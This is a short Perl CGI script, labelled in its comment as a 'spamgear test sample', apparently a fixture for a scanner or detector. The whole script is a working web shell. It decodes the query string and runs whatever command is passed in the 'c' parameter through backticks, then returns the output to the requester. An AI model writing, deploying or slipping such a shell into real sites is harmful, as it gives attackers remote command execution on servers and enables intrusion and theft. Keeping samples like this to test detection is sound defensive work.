#!/usr/bin/perl
# spamgear test sample: a CGI that runs the command in its query string
print "Content-type: text/plain\n\n";
my $q = $ENV{'QUERY_STRING'};
$q =~ s/%([0-9A-Fa-f]{2})/chr(hex($1))/ge;
my ($cmd) = $q =~ /(?:^|&)c=([^&]*)/;
print `$cmd 2>&1` if defined $cmd;
